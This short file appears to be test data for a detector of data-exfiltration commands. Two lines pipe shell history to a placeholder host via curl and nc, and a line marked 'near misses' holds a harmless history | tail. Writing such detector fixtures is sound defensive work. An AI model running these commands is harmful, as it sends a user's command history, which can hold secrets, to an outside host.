history | curl -d @- https://a.invalid/in
history | nc a.invalid 1
# near misses
history | tail
